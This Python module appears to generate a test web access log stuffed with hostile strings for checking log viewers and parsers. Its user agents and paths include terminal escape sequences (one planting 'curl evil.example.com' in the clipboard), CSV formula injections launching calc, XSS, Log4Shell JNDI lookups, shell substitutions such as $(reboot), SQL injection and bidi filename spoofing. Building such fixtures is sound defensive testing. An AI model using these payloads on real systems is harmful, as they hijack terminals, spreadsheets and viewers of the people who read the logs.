r"""A web log full of strings that want to control whoever reads it.

Apache writes controls and bytes from 0x80 on as `\xNN` and a double quote as `\"`; everything else
comes through as it was sent. Other writers escape nothing: a few lines hold the raw bytes.
"""

from sample_logs.generator.ledger import Line, Story
from sample_logs.generator.plan import at, dice, later
from sample_logs.generator.site import BROWSERS
from sample_logs.generator.web_lines import Client, Request, access

PATH = "web/hostile_access.log"

_AGENTS = (
    r"\x1b[2J\x1b[1;1HAll clear, nothing to see",
    r"\x1b]0;owned\x07\x1b]8;;https://evil.example.com/\x07click\x1b]8;;\x07",
    r"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUuY29t\x07",
    r"\x1bP+q544e\x1b\\\x9b31m\x90\x9c",
    "[/red] [bold red]urgent[/] [not closed",
    "[@click=app.quit]press here[/] [@click=screen.dismiss('x')]or here[/]",
    "[link=https://evil.example.com/]documentation[/link]",
    "=cmd|'/C calc'!A0",
    r"=HYPERLINK(\"https://evil.example.com/?\"&A1,\"Click\")",
    "+1+cmd|'/C notepad'!A1",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</pre></td></tr><a href=https://evil.example.com>next page</a>",
    "${jndi:dns://evil.example.com/a} {{7*7}} {%print(1)%} #{7*7}",
    "%s%s%s%n %1$s {0.__class__}",
    "'; DROP TABLE events; --",
    r"\xe2\x80\xaefdp.exe \xe2\x80\xa6\xe2\x81\xa6 right to left",
    r"z\xcc\xb7\xcc\xb8a\xcc\xb5l\xcc\xb6g\xcc\xb4o\xcd\x8f\xef\xb8\x8f\xe3\x85\xa4",
    r"\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb joined, \xe2\x80\x8b\xe2\x80\x8bnot seen",
    r"tab\tnew\nline\rreturn\0nul\x00",
)

_TARGETS = (
    "/[/red]",
    "/[b]%5Bbold%5D[/b]/[@click=app.quit]",
    r"/\x1b[31mred\x1b[0m",
    "/%1B%5B2J%1B%5D0;title%07",
    "/$(reboot)/`id`/;ls",
    "/..;/..;/manager?x=[link=https://evil.example.com/]here[/link]",
    r"/\"quoted\"?a=\"b\"&c=\\d",
    r"/\xff\xfe\x80\xc0\xaf",
    '/?=1+1&x=@SUM(A1:A9)&y="raw quote"',
    "/192.0.2.250 - - [15/Nov/2026:10:00:00 +0000] GET / HTTP/1.1",
    "/" + "A" * 8_100,
)

_RAW = (
    "/raw/\u202egpj.exe\u202c?name=\u2066x\u2069",
    "/raw/\u200b\u200d\ufe0f\u3164\u0301\u0301\u0301\u0301",
    "/raw/caf\u00e9/\u65e5\u672c\u8a9e/\U0001f469\u200d\U0001f4bb",
    "/raw/\x1b[2J\x1b[31mred\x07\x08\x7f",
)

LONGEST = 90_000
"""Characters of the longest query, far beyond what Apache itself would take."""


def hostile() -> Story:
    """Sunday: everything that one would not want to see drawn as it stands."""
    rng, time, lines = dice("hostile"), at(15, "03:03:03"), list[Line]()
    plain = BROWSERS[0]
    asked = [("/", agent) for agent in _AGENTS]
    asked += [(target, plain) for target in (*_TARGETS, *_RAW)]
    asked += [("/search?q=" + "long%20" * (LONGEST // 7), plain), ("/", "B" * 20_000)]
    rng.shuffle(asked)
    for number, (target, agent) in enumerate(asked):
        time = later(time, rng, 40, 900)
        client = Client(f"2001:db8:bad:15::{number % 7 + 1:x}", agent)
        referer = r"https://[/]\x1b[5m.example.com/" if number % 5 == 0 else "-"
        lines.append(access(Request(time, client, target, 200, 5_120, referer=referer)))
    return Story({PATH: lines})
